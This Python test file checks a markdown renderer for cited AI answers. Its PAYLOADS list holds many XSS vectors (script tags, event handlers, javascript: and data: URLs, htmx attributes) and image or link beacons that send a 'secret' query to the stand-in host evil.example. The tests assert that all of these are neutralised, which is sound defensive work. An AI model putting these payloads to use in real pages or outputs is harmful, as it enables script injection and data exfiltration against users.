from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from north.threads.rendering import Mark, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/p.png?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    '<img src="https://evil.example/p.png">',
    "<img srcset='https://evil.example/p.png 2x'>",
    '<div style="background:url(https://evil.example/p.png)">x</div>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=q></form>',
    '<base href="https://evil.example/">',
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video poster=https://evil.example/p.png>",
    "<input onfocus=alert(1) autofocus>",
    '<button hx-get="/w/acme/threads" hx-trigger="load">x</button>',
    '<div data-hx-on:load="alert(1)">x</div>',
    '<p hx-vals="js:{x:alert(1)}">x</p>',
    "<template><script>alert(1)</script></template>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```html\n<script>alert(1)</script>\n```",
    "```\n<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example" onmouseover="alert(1))',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "| a |\n|--|\n| <script>alert(1)</script> |",
    "<https://evil.example/?q=secret>",
    "[x](//evil.example/p)",
    "[x](/\\evil.example)",
    "[x](/w/acme/documents)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a class='cite' href='/w/acme' data-pane>forged</a>",
    "<span class=sr-only>x</span>",
    "[x](https://user:pass@evil.example/)",
    "[x](https://good.example@evil.example/)",
    "<textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]
TEXTS = st.text(alphabet=st.sampled_from(list("ab c.é日*_`#>-[]()!|\\\n<&12$~:/\"'\U000f0000\U000f0001")), max_size=80)


class Reader(HTMLParser):
    """What a browser would make of it: tags with attributes, and the visible text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def marked(text: str, words: str, **how: object) -> Mark:
    return Mark(text.index(words), text.index(words) + len(words), **how)


def cited(rendered: str) -> list[str]:
    """The words of each citation in turn, without its numbers."""
    pieces = re.findall(r'<(?:a|span) class="cite[^>]*>(.*?)</(?:a|span)>', rendered, re.DOTALL)
    return [html.unescape(re.sub(r"<sup>.*?</sup>", "", piece)) for piece in pieces]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Words {} and words.", "- item\n- {}", "> {}", "**{}**"])
def test_nothing_of_an_answer_runs_or_fetches(payload: str, around: str) -> None:
    text = around.format(payload)
    for marks in ([], [Mark(0, len(text), (1,), "/w/acme/documents/1?start=0&end=9", payload)], [Mark(2, len(text) - 1)]):
        for tag, attributes in Reader(render(text, marks)).tags:
            assert tag in {"p", "a", "span", "sup", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "br", "hr",
                           "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}  # fmt: skip
            assert not {name for name in attributes if name.startswith(("on", "hx-", "data-hx", "style", "src"))}
            if tag == "a":
                href = str(attributes["href"])
                assert href.startswith(("https://", "/w/acme/documents/1?"))
                assert set(str(attributes["rel"]).split()) == {"noopener", "noreferrer", "nofollow"}


def test_a_link_says_where_it_really_leads() -> None:
    rendered = render("[https://bank.example](https://evil.example/?q=secret) [x](https://good.example@evil.example/)")
    assert rendered.count("(evil.example)") == 2


def test_a_picture_is_its_description_in_words() -> None:
    assert render("See ![the plan](https://evil.example/p.png).") == "<p>See the plan.</p>\n"


def test_a_citation_is_exactly_its_words_with_the_numbers_of_its_sources() -> None:
    text = "The notice period is thirty days. Nothing else."
    rendered = render(text, [marked(text, "The notice period is thirty days.", sources=(1, 2), href="/d?start=1&end=2", title='Hand"book')])
    assert cited(rendered) == ["The notice period is thirty days."]
    assert "<sup>1 2</sup></a> Nothing else." in rendered
    assert 'title="Hand&quot;book"' in rendered
    assert 'href="/d?start=1&amp;end=2"' in rendered


@pytest.mark.parametrize(
    ("text", "words", "pieces"),
    [
        ("It is **thirty days** for all.", "It is **thirty days** for", ["It is ", "thirty days", " for"]),
        ("**thirty days**", "**thirty days**", ["thirty days"]),
        ("_Thirty_ days", "_Thirty_ days", ["Thirty", " days"]),
        ("- one costs 5 €.\n- two", "- one costs 5 €.", ["one costs 5 €."]),
        ("1. one\n2. two", "1. one", ["one"]),
        ("# Notice period", "# Notice period", ["Notice period"]),
        ("Use `the code` now", "`the code` now", ["the code", " now"]),
        ("First part.\n\nSecond part.", "part.\n\nSecond", ["part.", "Second"]),
        ("| a | b |\n|---|---|\n| thirty days | y |", "thirty days", ["thirty days"]),
        ("期間は三十日です。次の文。", "期間は三十日です。", ["期間は三十日です。"]),
    ],
)  # fmt: skip
def test_a_citation_may_cross_markup(text: str, words: str, pieces: list[str]) -> None:
    assert cited(render(text, [marked(text, words, sources=(1,), href="/d")])) == pieces


def test_only_the_first_piece_of_a_citation_is_a_stop_for_the_keyboard() -> None:
    rendered = render("It is **thirty** days", [Mark(0, 21, (1,), "/d")])
    assert [attributes.get("tabindex") for tag, attributes in Reader(rendered).tags if tag == "a"] == [None, "-1", "-1"]


def test_words_without_a_source_are_marked_and_explained() -> None:
    rendered = render("True. Invented.", [Mark(6, 15)])
    assert '<span class="unsupported" tabindex="0"' in rendered
    assert "Nothing that was found supports these words." in rendered
    assert "(no source)" in rendered


def test_a_source_that_may_not_be_opened_is_no_link() -> None:
    rendered = render("True.", [Mark(0, 5, (1,), title="A source you may no longer open")])
    assert "<a" not in rendered
    assert cited(rendered) == ["True."]


def test_a_mark_lost_in_an_address_is_shown_in_plain_text_instead() -> None:
    text = "[x](https://example.org/a-b-c) end"
    assert cited(render(text, [marked(text, "a-b-c", sources=(1,), href="/d")])) == ["a-b-c"]


@given(TEXTS, st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80)), max_size=4))
def test_marks_change_no_word_of_the_answer(text: str, spans: list[tuple[int, int]]) -> None:
    marks = [Mark(min(span), max(span), (number,), "/d") for number, span in enumerate(spans, 1)]
    with_marks, without = Reader(re.sub(r"<sup>.*?</sup>", "", render(text, marks))), Reader(render(text))
    letters = [re.sub(r"[^\wé日]", "", reader.text) for reader in (with_marks, without)]
    assert letters[0] == letters[1] or letters[0] == re.sub(r"[^\wé日]", "", text)


@given(TEXTS, st.lists(st.integers(0, 80), min_size=2, max_size=6, unique=True))
@example("111111111111\né", [0, 14])
def test_every_cited_letter_stands_in_a_citation_and_no_other(text: str, places: list[int]) -> None:
    spans = list(pairwise(sorted(place for place in places if place <= len(text))))[::2]
    rendered = render(text, [Mark(start, end, (1,), "/d") for start, end in spans])
    if "outside" in rendered or "host" in rendered:
        return  # words of a link are not cited a second time
    inside = "".join(re.findall(r"[abcé日12]", "".join(text[start:end] for start, end in spans)))
    assert "".join(re.findall(r"[abcé日12]", "".join(cited(rendered)))) in {inside, re.sub("[12]", "", inside)} or inside == ""
